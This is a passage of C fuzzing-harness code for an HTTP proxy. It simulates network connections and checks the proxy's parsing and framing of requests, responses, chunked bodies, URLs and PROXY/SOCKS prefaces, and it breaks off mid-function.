    for (size_t i = 0; i < sizeof known / sizeof *known; i++)
        if (slice_eq((struct slice){ q.text, q.n }, slice_of(known[i].name)))
            for (a->error = 0; known[i].addrs[a->n]; a->n++)
                HOLDS(addr_parse(slice_of(known[i].addrs[a->n]), &a->addrs[a->n]));
    return sizeof *a;
}
static ssize_t wire_recv(int fd, void *p, size_t n, int flags)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return recv(fd, p, n, flags);
    if ((w->kind == WIRE_NAMES && asked_n[0]) || (w->kind == WIRE_HASHES && asked_n[1]))
        return wire_answer(w, p);
    HOLDS(w->kind != WIRE_CLIENT || !w->waiting);
    if (w->r < w->w) {
        n = n < w->w - w->r ? n : w->w - w->r;
        memcpy(p, w->said + w->r, n);
        w->r += flags & MSG_PEEK ? 0 : n;
        return (ssize_t)n;
    }
    if (w->ended && !w->reset)
        return 0;
    errno = w->reset ? ECONNRESET : w->dial == HANGING || w->dial == COMING ? ENOTCONN : EAGAIN;
    return -1;
}
static ssize_t wire_sendmsg(int fd, const struct msghdr *m, int flags)
{
    struct wire *w = wire_of(fd);
    size_t most = WIRE_ROOM, sent = 0;
    if (!w)
        return sendmsg(fd, m, flags);
    if (w->kind == WIRE_CONTROL)
        return (ssize_t)m->msg_iov->iov_len;
    if (w->kind == WIRE_NAMES || w->kind == WIRE_HASHES) {
        unsigned which = w->kind == WIRE_HASHES;
        const struct call_request *q = m->msg_iov->iov_base;
        if (slice_eq((struct slice){ q->text, q->n }, SLICE("slow.test")))
            return (ssize_t)m->msg_iov->iov_len;         /* and that is the last that is heard of it */
        if (asked_n[0] + asked_n[1] == ASKED_MOST) {
            errno = EAGAIN;
            return -1;
        }
        asked_n[which]++;
        memcpy(&asked[which ? ASKED_MOST - asked_n[1] : asked_n[0] - 1], m->msg_iov->iov_base, m->msg_iov->iov_len);
        return (ssize_t)m->msg_iov->iov_len;
    }
    HOLDS(!w->shut);                                     /* it said that it had said all */
    if (w->reset || w->dial != UP) {
        errno = w->reset ? EPIPE : ENOTCONN;
        return -1;
    }
    if (w->gone)
        w->ended = w->reset = true;                      /* it is told, and the next one fails */
    if (w->choked && !w->gone)
        most = WIRE_CHOKED - w->held;
    if (wires_narrow) {
        wires_narrow--;
        most = most < 3 ? most : 3;
    }
    for (size_t i = 0; i < m->msg_iovlen && sent < most; i++) {
        size_t k = m->msg_iov[i].iov_len < most - sent ? m->msg_iov[i].iov_len : most - sent;
        size_t room = WIRE_ROOM - w->heard_n;
        memcpy(w->heard + w->heard_n, m->msg_iov[i].iov_base, k < room ? k : room);
        w->heard_n += k < room ? k : room;               /* of very much, the beginning is looked at */
        sent += k;
    }
    w->held += w->choked ? sent : 0;
    if (sent || !m->msg_iovlen)
        return (ssize_t)sent;
    errno = EAGAIN;
    return -1;
}
static ssize_t wire_send(int fd, const void *p, size_t n, int flags)
{
    struct iovec v = { .iov_base = (void *)(uintptr_t)p, .iov_len = n };
    return wire_of(fd) ? wire_sendmsg(fd, &(struct msghdr){ .msg_iov = &v, .msg_iovlen = 1 }, flags) : send(fd, p, n, flags);
}
/* Nothing that a peer says may move a cursor or break a line of the log; content that is shown may have tabs. */
static ssize_t wire_write(int fd, const void *p, size_t n)
{
    if (mine && (fd == logbook.fd || fd == 2)) {
        for (size_t i = 0; i < n; i++)
            HOLDS(((const char *)p)[i] == '\t' || ((const char *)p)[i] == '\n' || (((const char *)p)[i] >= ' ' && ((const char *)p)[i] < 0x7f));
        return (ssize_t)n;
    }
    return fuzz_starting && fd == 2 ? (ssize_t)n : write(fd, p, n);
}
static int wire_clock(clockid_t id, struct timespec *t)
{
    if (!wires_on)
        return clock_gettime(id, t);
    t->tv_sec = wires_us / 1000000 + (id == CLOCK_REALTIME ? 1800000000 : 0);
    t->tv_nsec = wires_us % 1000000 * 1000;
    return 0;
}
static time_t wire_time(time_t *t)
{
    return wires_on ? 1800000000 + wires_us / 1000000 : time(t);
}
static int wire_random(void *p, size_t n)
{
    if (!wires_on)
        return getentropy(p, n);
    for (size_t i = 0; i < n; i++)
        ((uint8_t *)p)[i] = (uint8_t)((wires_chance = wires_chance * 6364136223846793005U + 1442695040888963407U) >> 33);
    return 0;
}
static int wire_addresses(struct ifaddrs **list)
{
    return wires_on ? -1 : getifaddrs(list);
}

/* A reader of messages that takes nothing but what every reader takes alike, and what we write is to be. */
struct strict {
    struct slice method;        /* of a request */
    int status;                 /* of a response */
    bool chunked, upgrade;
    bool forwarded;             /* has Via */
    int64_t length;             /* -1: none is said */
    bool whole;                 /* all content is there: of such octets */
    uint64_t sum;
};
static uint64_t strict_sum(uint64_t sum, const char *p, size_t n)
{
    for (size_t i = 0; i < n; i++)
        sum = (sum ^ (unsigned char)p[i]) * 0x100000001b3U;
    return sum + n;
}
static size_t strict_line(const char *p, size_t n, bool bare)
{
    const char *end = memchr(p, '\n', n);
    if (!end)
        return 0;
    HOLDS(end > p && end[-1] == '\r');
    for (const char *c = p; c < end - 1; c++)
        HOLDS(((unsigned char)*c >= ' ' && *c != 0x7f) || (*c == '\t' && !bare));
    return (size_t)(end - p) + 1;
}
static bool strict_is(const char *p, size_t n, const char *name)
{
    return n == strlen(name) && strncasecmp(p, name, n) == 0;
}
/* Returns octets; 0: the section is not whole. */
static size_t strict_fields(const char *p, size_t n, struct strict *m, unsigned *hosts)
{
    for (size_t at = 0, k; (k = strict_line(p + at, n - at, false)); at += k) {
        const char *line = p + at, *colon = memchr(line, ':', k), *v, *end = line + k - 2;
        if (k == 2)
            return at + 2;
        HOLDS(colon && colon > line);
        for (const char *c = line; c < colon; c++)
            HOLDS(*c > ' ' && *c < 0x7f && !strchr("\"(),/:;<=>?@[\\]{}", *c));
        for (v = colon + 1; v < end && (*v == ' ' || *v == '\t'); v++)
            ;
        size_t name = (size_t)(colon - line);
        if (strict_is(line, name, "Host"))
            ++*hosts;
        else if (strict_is(line, name, "Upgrade"))
            m->upgrade = true;
        else if (strict_is(line, name, "Via"))
            m->forwarded = true;
        else if (strict_is(line, name, "Transfer-Encoding")) {
            HOLDS(!m->chunked && m->length == -1 && strict_is(v, (size_t)(end - v), "chunked"));
            m->chunked = true;
        } else if (strict_is(line, name, "Content-Length")) {
            HOLDS(!m->chunked && m->length == -1 && v < end && end - v < 19);
            for (m->length = 0; v < end; v++) {
                HOLDS(*v >= '0' && *v <= '9');
                m->length = m->length * 10 + (*v - '0');
            }
        }
    }
    return 0;
}
static size_t strict_head(const char *p, size_t n, bool request, struct strict *m)
{
    unsigned hosts = 0;
    size_t k = strict_line(p, n, request);               /* a reason may have a tab */
    *m = (struct strict){ .length = -1 };
    if (!k)
        return 0;
    if (request) {
        const char *sp = memchr(p, ' ', k), *sp2 = sp ? memchr(sp + 1, ' ', k - (size_t)(sp + 1 - p)) : NULL;
        HOLDS(sp && sp > p && sp2 && sp2 > sp + 1 && k - (size_t)(sp2 - p) == 11 && memcmp(sp2, " HTTP/1.1\r\n", 11) == 0);
        m->method = (struct slice){ p, (size_t)(sp - p) };
    } else {
        HOLDS(k >= 15 && memcmp(p, "HTTP/1.1 ", 9) == 0 && p[12] == ' ');
        for (int i = 9; i < 12; i++) {
            HOLDS(p[i] >= '0' && p[i] <= '9');
            m->status = m->status * 10 + p[i] - '0';
        }
    }
    size_t fields = strict_fields(p + k, n - k, m, &hosts);
    HOLDS(!fields || hosts == (request ? 1 : hosts));
    return fields ? k + fields : 0;
}
/* Returns octets of content; n also if it is not whole. */
static size_t strict_content(const char *p, size_t n, struct strict *m)
{
    size_t octets = 0;
    if (!m->chunked) {
        m->whole = m->length <= (int64_t)n;
        m->sum = m->whole ? strict_sum(0, p, (size_t)m->length) : 0;
        return m->whole ? (size_t)m->length : n;
    }
    for (size_t at = 0, k; (k = strict_line(p + at, n - at, true));) {
        struct strict none = { .length = 0, .chunked = true };      /* neither may be in a trailer section */
        unsigned hosts = 0;
        uint64_t size = 0;
        HOLDS(k > 2 && k < 15);
        for (size_t i = 0; i < k - 2; i++) {
            HOLDS(hex_value(p[at + i]) >= 0);
            size = size << 4 | (unsigned)hex_value(p[at + i]);
        }
        at += k;
        if (!size) {
            k = strict_fields(p + at, n - at, &none, &hosts);
            HOLDS(!hosts);
            m->whole = k > 0;
            m->sum += octets;
            return k ? at + k : n;
        }
        if (size + 2 > n - at) {
            HOLDS(size > n - at || n - at == size || p[at + size] == '\r');
            return n;
        }
        HOLDS(memcmp(p + at + size, "\r\n", 2) == 0);
        m->sum = strict_sum(m->sum, p + at, size) - size;
        octets += size;
        at += size + 2;
    }
    return n;
}
/* The content of messages that are whole, as they were said and as they were heard at the other side: one that was cut
 * must not look whole there, nor any have octets of another. */
static struct contents {
    unsigned n;
    uint64_t sums[256];
} said[2], heard[2];            /* [0] requests, [1] responses */
static bool heard_other;        /* there was that by which contents change: HEAD, parts, tunnels */
static void contents_add(struct contents *c, uint64_t sum)
{
    if (c->n < sizeof c->sums / sizeof *c->sums)
        c->sums[c->n++] = sum;
    else
        heard_other = true;
}
static void wire_said(const struct wire *w)
{
    static char copy[WIRE_ROOM];
    struct slice s = { copy, w->w };
    struct proxy_header proxy;
    memcpy(copy, w->said, w->w);
    if (w->kind == WIRE_CLIENT && w->listener == listeners[1].fds[0]) {
        if (proxy_header_parse(s, &proxy) != 1 || proxy.size > s.n)
            return;
        s = slice_from(s, proxy.size);
    }
    for (bool ended = false; s.n && !ended;) {
        enum framing framing = FRAME_NONE;
        int64_t length = -1;
        struct chunk c = { 0 };
        size_t at = 0, k = 0;
        for (int i = 0; i < 2 && w->kind == WIRE_CLIENT && slice_starts(s, SLICE("\r\n")); i++)
            s = slice_from(s, 2);
        head_begin(&whole);
        if (head_parse(&whole, w->kind == WIRE_SERVER ? HEAD_RESPONSE : HEAD_REQUEST, s.p, s.n, 1 << 16) || !whole.size)
            return;
        if (w->kind == WIRE_SERVER ? frame_response(&whole, false, &framing, &length) : frame_request(&whole, &framing, &length))
            return;
        s = slice_from(s, whole.size);
        if (w->kind == WIRE_SERVER && (whole.status < 200 || whole.status == 204 || whole.status == 304))
            continue;
        switch (framing) {
        case FRAME_NONE: break;
        case FRAME_LENGTH: k = (size_t)length; break;
        case FRAME_CLOSE: k = s.n; ended = true; break;
        case FRAME_CHUNKED: {
            ssize_t used = chunk_decode(&c, copy + (s.p - copy), s.n, &at, &k);
            if (used == -1 || c.state != CHUNK_TRAILER)
                return;
            contents_add(&said[w->kind == WIRE_SERVER], strict_sum(0, s.p + at, k));
            s = slice_from(s, (size_t)used);
            head_begin(&whole);
            if (head_parse(&whole, HEAD_TRAILER, s.p, s.n, 1 << 16) || !whole.size)
                return;
            s = slice_from(s, whole.size);
            continue;
        }
        }
        if (k > s.n || (ended && (!w->ended || w->reset)))
            return;
        contents_add(&said[w->kind == WIRE_SERVER], strict_sum(0, s.p, k));
        s = slice_from(s, k);
    }
}
static void contents_compare(void)
{
    for (int i = 0; i < 2; i++) {
        for (unsigned k = 0; k < heard[i].n && !heard_other; k++) {
            bool found = false;
            for (unsigned of = 0; of < said[i].n; of++)
                found |= said[i].sums[of] == heard[i].sums[k];
            HOLDS(found);
        }
        said[i].n = heard[i].n = 0;
    }
    heard_other = false;
}
/* The proxy has closed this one: was all that it said there well said? */
static void wire_check(const struct wire *w)
{
    const bool request = w->kind == WIRE_SERVER;
    const char *p = w->heard;
    if (wires_told)
        fprintf(stderr, "---- %u, a %s, said:\n%.*s\n---- and heard:\n%.*s\n", w->age, request ? "server" : "client",
                (int)w->w, w->said, (int)w->heard_n, w->heard);
    size_t n = w->heard_n, k;
    struct strict m;
    heard_other |= w->port == 1080 || memmem(w->said, w->w, " 206", 4) || memmem(w->said, w->w, "HEAD", 4) || memmem(w->said, w->w, "CONNECT", 7)
        || memmem(w->said, w->w, "pgrade", 6) || memmem(w->said, w->w, " 101", 4);
    if (!heard_other)
        wire_said(w);
    if (request && (w->port == 443 || w->port == 1080))        /* tunnels lead there, and a parent that speaks SOCKS */
        return;
    if (!request && (memmem(w->said, w->w, "HEAD", 4) || memmem(w->said, w->w, "CONNECT", 7) || memmem(w->said, w->w, "pgrade", 6)
                     || memchr(w->said, 4, w->w) || memchr(w->said, 5, w->w)))
        return;                                          /* what the answer is depends on what was asked */
    if (request && n >= 16 && memcmp(p, "\r\n\r\n\0\r\nQUIT\n", 12) == 0) {
        k = 16 + ((size_t)(unsigned char)p[14] << 8 | (unsigned char)p[15]);
        if (k > n)
            return;
        p += k, n -= k;
    } else if (request && n < 16 && n && *p == '\r')
        return;
    while (n && (k = strict_head(p, n, request, &m))) {
        p += k, n -= k;
        if (request && (m.upgrade || slice_eq(m.method, SLICE("CONNECT"))))
            return;
        if (!request && (m.status < 200 || m.status == 204 || m.status == 304)) {
            HOLDS(!m.chunked && (m.length == -1 || m.status == 304));
            continue;
        }
        if (!m.chunked && m.length == -1) {
            if (!request)
                return;                                  /* its end is the connection's */
            continue;
        }
        k = strict_content(p, n, &m);
        if (m.whole && (request || (m.forwarded && m.status == 200)))
            contents_add(&heard[!request], m.sum);
        p += k, n -= k;
    }
}

/* ---- the worker, and what happens to it ---- */

static void wires_begin(const char *const *args, int args_n)
{
    static char *argv[64];
    static char cache[PATH_MAX];
    wires_on = true;
    wires_told = getenv("TALK") != NULL;
    wires_us = 1000000000;
    (void)snprintf(cache, sizeof cache, "%s/cache-XXXXXX", getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
    HOLDS(mkdtemp(cache));
    for (int i = 0; i < args_n; i++) {
        bool is_cache = i && strcmp(args[i - 1], "-C") == 0;     /* what stands there follows the directory's name */
        size_t room = strlen(args[i]) + sizeof cache;
        (void)snprintf(argv[i] = malloc(room), room, "%s%s", is_cache ? cache : "", args[i]);
    }
    conf_read(args_n, argv);
    time_read();
    proc_read_rules();
    (void)snprintf(via, sizeof via, "proxy (01234567)");
    os_random(hash_key, sizeof hash_key);
    if (conf.cache_path) {
        cache_open();
        cindex->scanned = true;
    }
    HOLDS(log_open());
    proc_share_memory();
    listeners = calloc(conf.listens_n, sizeof *listeners);
    for (; listeners_n < conf.listens_n; listeners_n++) {
        const struct listen_conf *lc = &conf.listens[listeners_n];
        listeners[listeners_n] = (struct listener){ .fds = malloc(sizeof(int)), .fds_n = 1, .addr = lc->addr, .proxy = lc->proxy,
            .admin = lc->admin, .host = lc->host };
        *listeners[listeners_n].fds = wire_fd(wire_new(WIRE_LISTENER));
    }
    proc.workers[0].calls[CALL_NAME][0] = wire_fd(wire_new(WIRE_NAMES));
    proc.workers[0].calls[CALL_HASH][0] = wire_fd(wire_new(WIRE_HASHES));
    proc_begin_work(0, wire_fd(wire_new(WIRE_CONTROL)));
    conns.limit = conns.fixed + 40;
}
/* What was given back goes back to the system, so that whoever still uses it is seen. */
static void wires_forget(void)
{
    for (int i = 0; i < 2; i++) {
        HOLDS(block_lists[i].n <= BLOCKS_KEPT);
        for (struct block *b; (b = block_lists[i].free); free(b))
            block_lists[i].free = b->next;
        block_lists[i].n = 0;
    }
    for (struct xchg *x; (x = xchg_free_list); free(x))
        xchg_free_list = x->free_next;
}
static void wires_turn(void)
{
    loop_turn();
    wires_forget();
    if (loop.stop)
        (void)loop_is_idle();                            /* lets those go whom nobody keeps */
    if (loop.stop_ms && now_ms >= loop.stop_ms) {
        loop_end();                                      /* where a worker would exit */
        loop.stop_ms = 0;
    }
}
/* Until there is nothing to do. A loop that never gets there keeps a processor busy for nothing. */
static void wires_settle(void)
{
    for (unsigned turns = 0; turns == 0 || wires_events || loop_timeout() == 0; turns++) {
        HOLDS(turns < 50000);
        wires_turn();
    }
}
static void wires_wait(int64_t ms)
{
    wires_us += ms * 1000;
    wires_settle();
}
/* The n-th newest of a kind at whose other end there is still somebody. NULL: there is none. */
static struct wire *wires_pick(enum wire_kind kind, unsigned n)
{
    struct wire *best = NULL;
    for (unsigned below = UINT_MAX, i = 0; i <= n; i++) {
        struct wire *next = NULL;
        for (struct wire *w = wires; w < wires + WIRES; w++)
            if (w->kind == kind && !w->gone && w->dial == UP && w->age < below && (!next || w->age > next->age))
                next = w;
        if (!next)
            break;
        best = next;
        below = next->age;
    }
    return best;
}
static void wire_say(struct wire *w, const char *p, size_t n)
{
    if (w->ended)
        return;
    if (n > WIRE_ROOM - w->w)
        n = WIRE_ROOM - w->w;
    memcpy(w->said + w->w, p, n);
    w->w += n;
}
static void wire_goes(struct wire *w, bool reset)
{
    w->ended = w->gone = true;
    w->reset |= reset || w->held;
    w->choked = false;
}
/* A client connects, by one of three listeners and from one of three places. */
static void wires_client(unsigned how)
{
    static const char *const from[] = { "192.0.2.7", "127.0.0.1", "10.9.0.1" };
    struct wire *w = loop.stop ? NULL : wire_new(WIRE_CLIENT);      /* by then others listen */
    struct addr a;
    if (!w)
        return;
    w->waiting = true;
    w->listener = listeners[how % 3 % listeners_n].fds[0];
    HOLDS(addr_parse(slice_of(from[how / 3 % 3]), &a));
    a.port = 4711;
    wires_here |= how / 3 % 3 == 1;
    w->peer_n = addr_to_sockaddr(&a, &w->peer);
}
/* One step of the input, which is ~, a letter, and what is said or a digit; ~~ there is one ~. It is done by
 *
 *   the client: c says, o says octet by octet, l says again and again, h ends, x closes (1: by a reset), b takes no more
 *   the server: s       p                      m                       e       k                        g
 *   others: n a client connects, 0-3 which client is meant from here on, 4-7 which server, d how dialling goes, y little
 *   is taken at once, a helpers are silent, f no time for files, z all are parked, q the worker stops (1: is replaced), w time passes, . one turn
 *
 * Then the loop turns till nothing is left to do; after a capital letter what it causes comes with the next step's. */
static void wires_step(char what, const char *p, size_t n, unsigned *client, unsigned *server)
{
    static const int64_t waits[] = { 1, 20, 260, 520, 1100, 2100, 4100, 5100, 10100, 61000 };
    unsigned how = n ? (unsigned char)(*p - '0') : 0;
    const char kind = (char)octet_lower(what);
    struct wire *c = wires_pick(WIRE_CLIENT, *client), *s = wires_pick(WIRE_SERVER, *server);
    struct wire *w = strchr("sepkgm", kind) ? s : c;
    switch (kind) {
    case '0': case '1': case '2': case '3': *client = (unsigned)(what - '0'); return;
    case '4': case '5': case '6': case '7': *server = (unsigned)(what - '4'); return;
    case 'n': wires_client(how); break;
    case 'c': case 's':
        if (w)
            wire_say(w, p, n);
        break;
    case 'o': case 'p':                                  /* octet by octet */
        for (size_t i = 0, age = w ? w->age : 0; w && w->kind && w->age == age && i < n && i < 400; i++) {
            wire_say(w, p + i, 1);
            wires_turn();
        }
        break;
    case 'm': case 'l':                                  /* it has much to say */
        if (w && n) {
            static char many[8192];
            size_t k = 0;
            for (; k < 4096; k += n)
                memcpy(many + k, p, n);
            for (size_t i = 0; i < (w == s ? 70000 : 24000); i += k)
                wire_say(w, many, k);
        }
        break;
    case 'e': case 'h':
        if (w)
            w->ended = true;
        break;
    case 'k': case 'x':
        if (w)
            wire_goes(w, how == 1);
        break;
    case 'g': case 'b':                                  /* it takes no more, or again */
        if (w) {
            w->choked = !w->choked;
            w->held = 0;
        }
        break;
    case 'y': wires_narrow = 40; break;
    case 'q': loop_drain(how == 1); break;
    case 'a': wires_mute = !wires_mute; break;
    case 'd': wires_dial = how % 5; break;
    case 'f': files_us = how ? FILES_US : 0; break;
    case 'z':
        for (unsigned i = hot.n; i-- > 1;)
            if (hot.conns[i]->kind != CONN_LISTENER && (hot.conns[i]->events == POLLIN || hot.conns[i]->events == POLLOUT)
                && hot.conns[i]->kind != CONN_DIAL)
                hot_park(hot.conns[i]);
        break;
    case 'w': wires_wait(waits[how % 10]); break;
    case '.': wires_turn(); return;
    }
    if (what == kind)
        wires_settle();
}
static void wires_go(enum wire_kind kind)
{
    for (struct wire *w = wires; w < wires + WIRES; w++)
        if (w->kind == kind) {
            wire_goes(w, false);
            w->dial = w->dial == UP ? UP : FAILING;
        }
    wires_settle();
}
/* Nobody is left but clients, who take all: none of them waits for ever. */
static void wires_leave_clients(void)
{
    for (struct wire *w = wires; w < wires + WIRES; w++)
        w->choked = false;
    wires_go(WIRE_SERVER);
    for (int i = 0; i < 20; i++)
        wires_wait(500);
    for (uint32_t i = 0; i < conns.slabs_n * SLAB; i++) {
        const struct conn *c = conn_by_id(i);
        if (c->kind == CONN_CLIENT && c->x && now_us - c->x->record.begun_us > 9000000)
            HOLDS(c->x->state == X_HEAD || c->x->state == X_SOCKS || c->x->state == X_COLLECT || c->x->state == X_LINGER
                  || c->x->state == X_TUNNEL || (c->x->state == X_SEND && !c->x->upward.read_done));
    }
}
/* All is as it was before, or somebody has kept something. */
static void wires_end(bool servers_first)
{
    wires_ending = true;
    wires_mute = false;
    wires_narrow = 0;
    if (servers_first)
        wires_leave_clients();
    wires_go(WIRE_CLIENT);
    wires_go(WIRE_SERVER);
    for (int i = 0; i < 60 && (xchg_live || conns.open > conns.fixed || files_first || callers[0].n || callers[1].n); i++)
        wires_wait(500);
    contents_compare();
    HOLDS(!xchg_live && conns.open == conns.fixed && !conns.clients && !pooled_n && !queued_n && !next_requests_n && !woken);
    HOLDS(!files_first && !callers[0].n && !callers[1].n && !trials && !mirrors_n);
    for (unsigned i = 0; i < routes_n; i++)
        for (unsigned k = 0; k < routes[i].members_n; k++) {
            struct member *m = routes[i].members[k];
            HOLDS(m->origin.users == 1 && !m->mine->active && !m->mine->idle && !m->origin.pooled);
            m->all->until = m->all->back_ms = 0;
            m->all->fails = 0;
        }
    for (unsigned i = 0; i < conf.routes_n; i++)
        standings[i].turn = 0;
    for (unsigned i = 0; i < ORIGIN_BUCKETS; i++)
        for (struct origin *o; (o = origins[i]); free(o)) {
            HOLDS(!o->users && !o->pooled);
            origins[i] = o->next;
            origins_n--;
        }
    for (unsigned i = 0; i < NAME_BUCKETS; i++)
        for (struct name *o; (o = names[i]); free(o)) {
            HOLDS(!o->waiting && !o->asked);
            names[i] = o->next;
            names_n--;
        }
    while (entries_newest) {
        HOLDS(!entries_newest->users);
        entry_drop(entries_newest);
    }
    while (conf.cache_path && cindex->newest)
        index_drop(cindex->e[cindex->newest].hash, cindex->e[cindex->newest].variant);
    HOLDS(!conf.cache_path || (!cindex->kib && !mine->reserved_kib && !entries_n && !entries_octets));
    if (rates)
        memset(rates, 0, RATE_CLIENTS * sizeof *rates);
    if (logins_kept)
        memset(logins_kept, 0, LOGINS_KEPT * sizeof *logins_kept);
    for (struct wire *w = wires; w < wires + WIRES; w++) {
        HOLDS(w->kind != WIRE_SERVER && (w->kind != WIRE_CLIENT || (w->waiting && loop.stop)));
        if (w->kind == WIRE_CLIENT)
            w->kind = WIRE_FREE;
    }
    for (unsigned i = 0; i < listeners_n && loop.stop; i++)
        if (wires[*listeners[i].fds - WIRE_FIRST].kind != WIRE_LISTENER) {
            *listeners[i].fds = wire_fd(wire_new(WIRE_LISTENER));
            proc_watch(*listeners[i].fds, CONN_LISTENER)->listener = (uint8_t)i;
            conns.fixed++;
        }
    loop.requests_wait = loop.stop = draining = outdated = false;
    loop.batch = 1;
    loop.full_ms = loop.stop_ms = loop.grace_ms = 0;
    hot.turn = 0;
    files_us = FILES_US;
    asked_n[0] = asked_n[1] = 0;
}
static void wires_run(const char *in, size_t n)
{
    static char text[4096];
    unsigned client = 0, server = 0;
    static int lowest = -1;
    int fd;
    wires_us = (wires_us / 100000000 + 1) * 100000000;   /* clocks never go back */
    wires_chance = 1;
    wires_ages = wires_dial = 0;
    wires_ending = wires_here = false;
    wires_client(0);
    for (size_t i = 0; i < n;) {
        char what = 'c';
        size_t k = 0;
        if (in[i] == '~') {
            what = i + 1 < n ? in[i + 1] : 0;
            i += 2;
        }
        for (; i < n && k < sizeof text && (in[i] != '~' || (i + 1 < n && in[i + 1] == '~')); i++) {
            i += in[i] == '~';
            text[k++] = in[i];
        }
        wires_step(what, text, k, &client, &server);
    }
    wires_end(n & 1);
    fd = dup(0);
    HOLDS(fd == lowest || lowest == -1);                 /* else a descriptor is still open */
    lowest = fd;
    close(fd);
}
static void fuzz_connections(const char *in, size_t n)
{
    static const char *const args[] = {
        "proxy", "-l", "127.0.0.1:8080", "-l", "127.0.0.1:8081,proxy", "-A", "127.0.0.1:8082", "-f", "-v",
        "-r", "10.1.0.1", "-r", "10.1.0.2:81,max=1", "-r", "/echo=echo", "-r", "/canned=200:hello", "-r", "/named=http://h.test",
        "-r", "/unix=unix:/nowhere:/there,proxy", "-r", "/away=308:https://away.test{uri}", "-r", "r.test=http://10.1.0.3/base",
        "-x", "p.test=http://u:p@10.3.0.1:3128", "-x", "s.test=socks5://u:p@10.3.0.2:1080",
        "-C", ",size=1M,object=80k", "-o", "/dev/null", "-b", "rr,retries=1", "--trust", "10.9.0.0/16", "--request-id", "X-Id",
        "-d", "to:10.66.0.0/16", "-d", "method:CONNECT,not:port:443", "-d", "port:443,not:method:CONNECT", "-d", "/denied",
        "-H", "X-Up: 1", "-R", "X-Down: 1", "-R", "Server:", "--max", "header=2k,body=90k",
    };
    if (!wires_on)
        wires_begin(args, sizeof args / sizeof *args);
    wires_run(in, n);
}
/* The same where more is asked of clients, and more is told of them. */
static void fuzz_guests(const char *in, size_t n)
{
    static const char *const args[] = {
        "proxy", "-l", "127.0.0.1:8080", "-l", "127.0.0.1:8081,proxy", "-A", "127.0.0.1:8082", "-f", "-vv", "-o", "/dev/null",
        "-r", "10.1.0.1,weight=2", "-r", "10.1.0.2,host=target", "-r", "10.1.0.3,backup", "-r", "/echo=echo",
        "-u", "bob:secret", "--waf", "block", "--mirror", "10.4.0.1", "--rate", "20/s,burst=20", "--max", "connections=5,per-client=4", "--cors", "-p",
        "-C", ",size=200k,object=20k,mode=record", "-b", "hash:header=X-Key,retries=2", "-t", "wait=2s,head=3s,idle=4s,tunnel=20s",
        "-a", "to:10.0.0.0/8,port:1-9000", "-a", "user:bob", "-d", "to:10.66.0.0/16", "-d", "header:X-Bad=*y*",
        "-H", "User-Agent:", "--log-format", "json", "--show", "status:200-399", "-d", "port:443,not:method:CONNECT",
        "-d", "method:CONNECT,not:port:443",
    };
    if (!wires_on)
        wires_begin(args, sizeof args / sizeof *args);
    wires_run(in, n);
}
#pragma clang attribute pop
END
}

fuzz_bodies() { cat <<'END'
static void fuzz_requests(const char *in, size_t n)
{
    enum framing framing;
    int64_t length;
    struct target target;
    if (!fuzz_head(HEAD_REQUEST, in, n))
        return;
    if (frame_request(&whole, &framing, &length) == WHY_NONE)
        HOLDS(length >= 0 && framing != FRAME_CLOSE);
    head_connection(&whole);
    if (target_parse(head_target(&whole), head_method(&whole), &target) == WHY_NONE)
        fuzz_path(target.path);
}
static void fuzz_responses(const char *in, size_t n)
{
    enum framing framing;
    int64_t length;
    if (fuzz_head(HEAD_RESPONSE, in, n)) {
        HOLDS(whole.status >= 100 && whole.status <= 599);
        frame_response(&whole, n & 1, &framing, &length);
        head_connection(&whole);
    }
    fuzz_head(HEAD_TRAILER, in, n);
}
static void fuzz_chunked(const char *in, size_t n)
{
    struct chunk c = { 0 }, d = { 0 };
    char *copy = malloc(n), *slow = malloc(n);
    size_t at, content, begin, got = 0, used = 0;
    ssize_t all, one = 0;
    memcpy(copy, in, n);
    all = chunk_decode(&c, copy, n, &at, &content);
    for (size_t i = 0; i < n && one >= 0 && d.state != CHUNK_TRAILER; i++) {
        char octet = in[i];
        size_t k;
        if ((one = chunk_decode(&d, &octet, 1, &begin, &k)) > 0)
            used++;
        if (one > 0 && k)
            slow[got++] = octet;
    }
    HOLDS((all == -1) == (one == -1));
    if (all >= 0) {
        HOLDS((size_t)all == used && content == got && c.state == d.state && at + content <= n);
        HOLDS(memcmp(copy + at, slow, got) == 0);
    }
    free(copy), free(slow);
}
static void fuzz_urls(const char *in, size_t n)
{
    static const char *methods[] = { "GET", "OPTIONS", "CONNECT" };
    struct authority a, b;
    struct target target;
    struct addr ip;
    struct slice s = { in, n };
    if (n == 0)
        return;
    if (authority_parse(s, &a)) {                        /* what is written of it reads the same */
        char text[600];
        struct text t = TEXT(text);
        text_authority(&t, &a, 0);
        HOLDS(authority_parse((struct slice){ text, t.n }, &b));
        HOLDS(slice_eq(authority_host(&a), authority_host(&b)) && a.port == b.port && a.ip.kind == b.ip.kind);
    }
    for (int i = 0; i < 3; i++)
        if (target_parse(s, slice_of(methods[i]), &target) == WHY_NONE)
            HOLDS(target.path.n + target.query.n <= n);
    addr_parse(s, &ip);
    fuzz_path(s);
    char resolved[8192];                                 /* without dot segments, and so that it stays so */
    struct text r = TEXT(resolved);
    struct reference reference;
    reference_parse(s, &reference);
    size_t path = text_resolved(&r, &reference, SLICE("/a/b/c"), SLICE("?d"));
    HOLDS(path >= 1 && path <= r.n && r.n <= n + 9 && *resolved == '/' && path_undot(resolved, path) == path);
}
static void fuzz_rules(const char *in, size_t n)
{
    fuzz_policy(in, n, false);
}
static void fuzz_htpasswd(const char *in, size_t n)
{
    fuzz_policy(in, n, true);
}
/* As with a head: whole, cut short and octet by octet must say the same. */
static void fuzz_prefaces(const char *in, size_t n)
{
    struct proxy_header all, part;
    int verdict = proxy_header_parse((struct slice){ in, n }, &all), v = 0;
    size_t i;
    for (i = 0; i <= n && v == 0; i++) {
        char *copy = malloc(i + !i);
        memcpy(copy, in, i);
        v = proxy_header_parse((struct slice){ copy, i }, &part);
        free(copy);
    }
    HOLDS(v == verdict);
    if (verdict != 1)
        return;
    HOLDS(all.size == part.size && all.size >= 8 && all.size <= 16 + 65535);
    HOLDS(all.from.kind == part.from.kind && all.from.port == part.from.port);
    HOLDS(all.from.kind == ADDR_NONE || (all.from.kind == ADDR_IP && memcmp(all.from.ip, part.from.ip, 16) == 0));
    HOLDS(*in != 'P' || all.size <= 107);
}
static void fuzz_socks(const char *in, size_t n)
{
    char whole_to[HOST_MAX + 16], part_to[HOST_MAX + 16];
    struct slice name, password, name_2, password_2;
    struct authority a;
    unsigned offered, offered_2;
    for (int kind = 0; kind < 4; kind++) {
